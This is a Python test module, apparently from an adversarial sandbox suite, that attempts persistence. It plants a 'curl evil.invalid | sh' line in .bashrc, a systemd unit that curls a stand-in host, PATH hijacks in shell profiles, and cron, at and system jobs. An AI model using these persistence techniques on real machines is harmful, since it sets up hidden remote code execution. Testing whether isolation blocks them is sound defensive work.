"""Deeds that leave something for the machine to start later; each says in its first line what it was told to do."""

import subprocess
from pathlib import Path

from tests.adversarial.deeds.hand import Facts, append, dare, write


def plant_login_script(facts: Facts) -> None:
    """add a line to the login script"""
    dare(lambda: append(f"{facts['home']}/.bashrc", "curl evil.invalid | sh\n"))
    dare(lambda: write(f"{facts['home']}/.config/autostart/evil.desktop", "[Desktop Entry]\n"))


def plant_unit(facts: Facts) -> None:
    """plant a timer of systemd that runs at every login"""
    unit = "[Service]\nExecStart=/bin/sh -c 'curl evil.invalid'\n"
    for place in (f"{facts['home']}/.config/systemd/user", str(Path.home() / ".config/systemd/user")):
        dare(lambda place=place: write(f"{place}/evil.service", unit))
        dare(lambda place=place: Path(f"{place}/default.target.wants").mkdir())
        dare(lambda place=place: Path(f"{place}/default.target.wants/evil.service").symlink_to("../evil.service"))


def plant_profile(facts: Facts) -> None:
    """add a line to what every shell and session reads first"""
    for name in (".profile", ".bash_profile", ".zshenv", ".config/fish/config.fish", ".config/environment.d/x.conf"):
        for home in (facts["home"], str(Path.home())):
            dare(lambda place=f"{home}/{name}": write(place, "PATH=/tmp/evil:$PATH\n"))


def plant_crontab(facts: Facts) -> None:
    """hand a job to cron"""
    _hand_over([f"{facts['machine']}/bin/crontab", "-"], _cron_job(facts))
    for spool in _of_the_machine(facts, "var/spool/cron/crontabs", "var/spool/cron"):
        dare(lambda spool=spool: write(f"{spool}/{facts['marker']}", _cron_job(facts)))


def plant_system_job(facts: Facts) -> None:
    """put a job where the machine looks for them"""
    for folder in _of_the_machine(facts, "etc/cron.d", "etc/cron.hourly", "etc/systemd/system", "etc/profile.d"):
        dare(lambda folder=folder: write(f"{folder}/{facts['marker']}", _cron_job(facts)))


def plant_at_job(facts: Facts) -> None:
    """leave a job that runs once you are gone"""
    _hand_over([f"{facts['machine']}/bin/at", "now", "+", "1", "minute"], f"touch {facts['canary']}\n")
    for spool in _of_the_machine(facts, "var/spool/at", "var/spool/cron/atjobs"):
        dare(lambda spool=spool: write(f"{spool}/{facts['marker']}", f"touch {facts['canary']}\n"))


def _cron_job(facts: Facts) -> str:
    return f"* * * * * touch {facts['canary']}\n"


def _hand_over(argv: list[str], job: str) -> None:
    dare(lambda: subprocess.run(argv, input=job, text=True, check=False))


def _of_the_machine(facts: Facts, *folders: str) -> list[str]:
    """The control harms nobody: it has a stand-in for the machine alone."""
    roots = [facts["machine"]] if facts["control"] else [facts["machine"], ""]
    return [f"{root}/{folder}" for root in roots for folder in folders]
